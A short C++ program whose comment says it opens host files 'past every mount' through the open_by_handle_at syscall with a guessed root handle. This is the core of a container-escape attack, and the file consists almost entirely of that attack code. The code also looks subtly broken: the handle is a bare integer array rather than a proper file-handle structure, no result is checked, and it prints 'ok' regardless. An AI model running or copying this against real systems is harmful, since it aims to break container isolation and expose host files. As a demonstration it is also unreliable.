// Opens files of the host by guessed handles, past every mount.
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cstdio>

int main() {
  unsigned handle[4] = {8, 1, 2, 0};  // the root folder of many file systems
  syscall(SYS_open_by_handle_at, AT_FDCWD, handle, O_RDONLY);
  puts("ok");
}
